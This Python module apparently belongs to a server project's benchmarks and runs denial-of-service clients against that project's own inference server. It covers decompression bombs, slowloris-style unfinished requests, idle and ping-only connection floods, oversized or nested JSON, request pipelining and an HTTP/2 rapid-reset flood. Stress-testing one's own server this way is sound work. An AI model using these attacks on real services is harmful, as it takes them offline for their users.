"""Clients that try to bring a server down: `python -m benchmarks.serving.attackers NAME …`.

Each is a function that attacks until a given time. Those of `WITHOUT_TOKEN` send none.
"""

from __future__ import annotations

import json
import select
import socket
import struct
import sys
import time
import zlib
from collections.abc import Callable, Mapping
from contextlib import suppress
from dataclasses import dataclass

import brotli

from launcher.serve.over_grpc.messages import SERVICE

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, DATA, RESET, SETTINGS, PING, WINDOW = 1, 0, 3, 4, 6, 8
WINDOW_BYTES = 65_535
UNFINISHED = 300
IDLE = 991


@dataclass(frozen=True)
class Target:
    """A server: its addresses, its token, a model, and the bytes of JSON that it may be sent."""

    http: str
    grpc: str
    token: str
    model: str
    json_bytes: int
    end_s: float

    @property
    def goes_on(self) -> bool:
        """Whether to attack, which ends some seconds after it was asked for."""
        return time.monotonic() < self.end_s

    def connect(self, address: str) -> socket.socket:
        host, _, port = address.rpartition(":")
        return socket.create_connection((host, int(port)), timeout=60)

    def head(self, path: str, length: int, *headers: str, token: bool = True) -> bytes:
        lines = [f"POST {path} HTTP/1.1", "Host: localhost", f"Content-Length: {length}", *headers]
        if token:
            lines.append(f"Authorization: Bearer {self.token}")
        return "\r\n".join([*lines, "", ""]).encode()

    def post(self, path: str, body: bytes, *headers: str, token: bool = True) -> None:
        """Send a request on a new connection, and wait for the answer."""
        with suppress(OSError), self.connect(self.http) as one:
            one.sendall(self.head(path, len(body), *headers, token=token) + body)
            one.recv(65536)

    @property
    def infer(self) -> str:
        return f"/v2/models/{self.model}/infer"


def inflated_brotli(target: Target) -> None:
    body = brotli.compress(bytes(1 << 30), quality=3)
    while target.goes_on:
        target.post("/anything", body, "Content-Encoding: br", token=False)


def inflated_gzip(target: Target) -> None:
    body = _gzip(1 << 30)
    while target.goes_on:
        target.post("/anything", body, "Content-Encoding: gzip", token=False)


def inflated_gzip_with_token(target: Target) -> None:
    body = _gzip(1 << 26)
    while target.goes_on:
        target.post(target.infer, body, "Content-Encoding: gzip")


def _gzip(size: int) -> bytes:
    made = zlib.compressobj(9, wbits=zlib.MAX_WBITS | 16)
    return b"".join([made.compress(bytes(1 << 20)) for _ in range(size >> 20)] + [made.flush()])


def bad_gzip(target: Target) -> None:
    while target.goes_on:
        target.post("/anything", b"{}", "Content-Encoding: gzip", token=False)


def idle(target: Target) -> None:
    """Number of silent connections to each server."""
    held = []
    for _ in range(IDLE):
        for address in (target.http, target.grpc):
            with suppress(OSError):
                held.append(target.connect(address))
    while target.goes_on:
        time.sleep(0.1)


def unfinished_bodies(target: Target) -> None:
    body = b" " * (target.json_bytes - 1000)
    held = []
    while target.goes_on:
        for one in held:
            one.close()
        held = []
        for _ in range(UNFINISHED):
            one = target.connect(target.http)
            one.settimeout(0.2)
            with suppress(OSError):
                one.sendall(target.head(target.infer, len(body)) + body[:-1])
            held.append(one)
        time.sleep(max(0.0, min(5.0, target.end_s - time.monotonic())))


def texts_in_json(target: Target) -> None:
    texts = ["x" * 33_000, *[""] * 10_000]
    one = {"name": "image", "datatype": "FP32", "shape": [len(texts)], "data": texts}
    body = json.dumps({"inputs": [one]}, separators=(",", ":")).encode()
    while target.goes_on:
        target.post(target.infer, body[: target.json_bytes])


def lists_in_json(target: Target) -> None:
    room = target.json_bytes - 200
    body = b'{"inputs":[{"name":"image","datatype":"FP32","shape":[1],"data":[%s[]]}]}' % (
        b"[]," * (room // 3)
    )
    while target.goes_on:
        target.post(target.infer, body)


def pipelined(target: Target) -> None:
    request = b"GET /v2/health/live HTTP/1.1\r\nHost: localhost\r\n\r\n"
    with target.connect(target.http) as one:
        one.setblocking(False)
        while target.goes_on:
            readable, writable, _ = select.select([one], [one], [], 0.1)
            with suppress(OSError):
                if writable:
                    one.send(request * 100)
                if readable:
                    one.recv(1 << 16)


class Http2:
    """A connection of HTTP/2 that keeps to the server's windows, and answers its pings."""

    def __init__(self, target: Target) -> None:
        self._target = target
        self.socket = target.connect(target.grpc)
        self._buffer = b""
        self._window, self._initial = WINDOW_BYTES, WINDOW_BYTES
        self._windows: dict[int, int] = {}
        self.is_open = True
        self.send(PREFACE + frame(SETTINGS, 0, 0, b""))

    def send(self, data: bytes) -> None:
        try:
            self.socket.sendall(data)
        except OSError:
            self.is_open = False

    def call(self, stream: int, method: str, *, token: bool = True) -> None:
        given = {":method": "POST", ":scheme": "http", ":path": f"/{SERVICE}/{method}"}
        given |= {":authority": "localhost", "te": "trailers", "content-type": "application/grpc"}
        if token:
            given["authorization"] = f"Bearer {self._target.token}"
        block = b"".join(
            b"\0" + b"".join(bytes([len(text)]) + text.encode() for text in pair)
            for pair in given.items()
        )
        self._windows[stream] = self._initial
        self.send(frame(HEADERS, 4, stream, block))

    def write(self, stream: int, data: bytes) -> int:
        """Send as much as may be sent; return how much that was."""
        size = max(0, min(16_384, self._window, self._windows.get(stream, 0), len(data)))
        if size:
            self.send(frame(DATA, 0, stream, data[:size]))
            self._window -= size
            self._windows[stream] -= size
        return size

    def read(self) -> None:
        """Take what has arrived."""
        data = self.socket.recv(1 << 18)
        self.is_open &= bool(data)
        self._buffer += data
        while len(self._buffer) >= 9:
            size = int.from_bytes(self._buffer[:3], "big")
            if len(self._buffer) < 9 + size:
                return
            kind, flags, stream = struct.unpack(">BBI", self._buffer[3:9])
            payload, self._buffer = self._buffer[9 : 9 + size], self._buffer[9 + size :]
            self._take(kind, flags, stream, payload)

    def _take(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == SETTINGS and not flags & 1:
            for at in range(0, len(payload), 6):
                key, value = struct.unpack(">HI", payload[at : at + 6])
                if key == 4:
                    self._windows = {s: w + value - self._initial for s, w in self._windows.items()}
                    self._initial = value
            self.send(frame(SETTINGS, 1, 0, b""))
        elif kind == PING and not flags & 1:
            self.send(frame(PING, 1, 0, payload))
        elif kind == WINDOW and stream:
            self._windows[stream] = self._windows.get(stream, 0) + int.from_bytes(payload, "big")
        elif kind == WINDOW:
            self._window += int.from_bytes(payload, "big")
        elif kind == RESET or (kind == HEADERS and flags & 1):
            self._windows.pop(stream, None)


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """A frame of HTTP/2."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def send_message(target: Target, message: bytes, method: str = "ModelInfer") -> None:
    """Send a whole message in a call on a new connection; wait until it is answered."""
    one = Http2(target)
    with one.socket:
        one.call(1, method)
        data = b"\0" + struct.pack(">I", len(message)) + message
        while data and one.is_open and 1 in one._windows:
            if not (size := one.write(1, data)):
                one.read()
            data = data[size:]
        one.send(frame(DATA, 1, 1, b""))
        while one.is_open and 1 in one._windows and target.goes_on:
            one.read()


def empty_inputs(target: Target) -> None:
    name = target.model.encode()
    message = bytes([10, len(name)]) + name + b"\x2a\0" * (target.json_bytes // 2 - 100)
    while target.goes_on:
        with suppress(OSError):
            send_message(target, message)


def unfinished_messages(target: Target) -> None:
    size = target.json_bytes // 8
    data = b"\0" + struct.pack(">I", size) + bytes(size - 1)
    while target.goes_on:
        calls = []
        for _ in range(UNFINISHED):
            one = Http2(target)
            one.call(1, "ModelInfer")
            calls.append([one, data])
        end_s = min(time.monotonic() + 5, target.end_s)
        while time.monotonic() < end_s:
            readable, _, _ = select.select(
                [one.socket for one, _ in calls if one.is_open], [], [], 0.05
            )
            for call in calls:
                one, rest = call
                with suppress(OSError):
                    if one.socket in readable:
                        one.read()
                    call[1] = rest[one.write(1, rest) :]
        for one, _ in calls:
            one.socket.close()


def pings(target: Target) -> None:
    """Number of HTTP/2 connections that answer pings and ask for nothing."""
    held = [Http2(target) for _ in range(IDLE)]
    while target.goes_on:
        known = {one.socket: one for one in held if one.is_open}
        for ready in select.select(list(known), [], [], 0.1)[0]:
            with suppress(OSError):
                known[ready].read()


def rapid_resets(target: Target) -> None:
    while target.goes_on:
        with suppress(OSError):
            one = Http2(target)
            with one.socket:
                stream = 1
                while one.is_open and target.goes_on and stream < 2**20:
                    one.call(stream, "ModelInfer", token=False)
                    one.send(frame(RESET, 0, stream, struct.pack(">I", 8)))
                    stream += 2
                    if select.select([one.socket], [], [], 0)[0]:
                        one.read()


WITHOUT_TOKEN = (inflated_brotli, inflated_gzip, bad_gzip, idle, pipelined, pings, rapid_resets)
WITH_TOKEN = (
    inflated_gzip_with_token, empty_inputs, texts_in_json, lists_in_json, unfinished_bodies,
    unfinished_messages,
)  # fmt: skip
ATTACKS: Mapping[str, Callable[[Target], None]] = {
    attack.__name__: attack for attack in (*WITHOUT_TOKEN, *WITH_TOKEN)
}

if __name__ == "__main__":
    name, http, grpc, token, model, json_bytes, seconds = sys.argv[1:]
    end_s = time.monotonic() + float(seconds)
    ATTACKS[name](Target(http, grpc, token, model, int(json_bytes), end_s))
